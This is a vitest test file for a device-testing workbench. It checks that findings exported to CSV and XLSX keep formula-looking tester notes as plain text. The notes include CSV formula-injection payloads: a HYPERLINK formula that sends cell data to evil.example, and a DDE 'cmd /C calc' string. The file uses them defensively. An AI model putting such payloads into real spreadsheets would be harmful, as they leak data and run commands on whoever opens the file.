/**
 * The findings table exported through the workbench API (a session on the virtual phone, through the real adb
 * server) keeps a tester's notes as text: "=HYPERLINK(...)", "@SUM", "＝1+1" and the other formula starts come
 * out prefixed with ' in both the CSV and the XLSX, and every CSV field is quoted with its quotes doubled.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Dispatcher } from '../../../../src-main/bridge/dispatcher.js';
import { callApi } from '../../../support/dispatcher-call.js';
import { Workbench } from '../../../../src-main/core/workbench.js';
import type { VirtualDevice } from '../../../../src-main/core/virtual-device/index.js';
import type { SessionChecklist } from '../../../../src-preload/checklist.js';
import type { SessionInfo } from '../../../../src-preload/api.js';
import { startAdbServer, type TestAdbServer } from '../../../support/adb-server.js';
import { parseQuotedCsv } from '../../../support/csv.js';
import { startPhone } from '../../../support/virtual-phone.js';

const NOTES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '＝1+1', '+1+1', '-2+3', '\t=1+1', '\r=1+1', '＠SUM(A1)', '＋1', '－1'];

let adb: TestAdbServer;
let phone: VirtualDevice;
let wb: Workbench;
let api: Dispatcher;
let dir: string;

const call = <T>(method: string, args: Record<string, unknown>): Promise<T> => callApi<T>(api, method, args);

beforeAll(async () => {
  adb = await startAdbServer();
  phone = await startPhone(adb, 'compliant-app');
  dir = mkdtempSync(join(tmpdir(), 'findings-export-'));
  wb = new Workbench({ dataDir: dir, shell: 'browser', version: 't', adbServerPort: adb.port });
  await wb.start();
  api = new Dispatcher(wb.handlers());
}, 60_000);

afterAll(async () => {
  await wb?.close();
  await phone?.stop();
  await adb?.kill();
  rmSync(dir, { recursive: true, force: true });
});

describe('findings exported with hostile notes', () => {
  it('keep every formula-looking note as text in the CSV and the XLSX', async () => {
    const session = await call<SessionInfo>('session.start', { serial: phone.serial, packageName: 'com.demo.shop', tester: 'T', caseRef: '' });
    const checklist = await call<SessionChecklist>('checklist.session', { sessionId: session.id });
    const items = checklist.findings.slice(0, NOTES.length).map((f) => f.item);
    expect(items).toHaveLength(NOTES.length);
    for (const [k, item] of items.entries()) await call('checklist.verdict', { sessionId: session.id, item, verdict: 'fail', note: NOTES[k], attachments: [] });

    const csv = await call<{ path: string }>('checklist.exportFindings', { sessionId: session.id, format: 'csv' });
    const rows = parseQuotedCsv(readFileSync(csv.path, 'utf8'));
    const noteColumn = rows[0]!.indexOf('备注 (Note)');
    const itemColumn = rows[0]!.indexOf('检测项 (Item)');
    for (const [k, item] of items.entries()) expect(rows.find((r) => r[itemColumn] === item)![noteColumn]).toBe(`'${NOTES[k]}`);

    const xlsx = await call<{ path: string }>('checklist.exportFindings', { sessionId: session.id, format: 'xlsx' });
    const { default: ExcelJS } = await import('exceljs');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(readFileSync(xlsx.path) as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const header = (sheet.getRow(2).values as unknown[]).map(String);
    const byItem = new Map<string, unknown>();
    sheet.eachRow((row, n) => {
      if (n > 2) byItem.set(String(row.getCell(header.indexOf('检测项 (Item)')).value), row.getCell(header.indexOf('备注 (Note)')).value);
    });
    // An XML reader (Excel's too) reads a carriage return in a cell as a line feed.
    for (const [k, item] of items.entries()) expect(byItem.get(item)).toBe(`'${NOTES[k]!.replace(/\r/g, '\n')}`);
    await call('session.close', { id: session.id });
  }, 60_000);
});
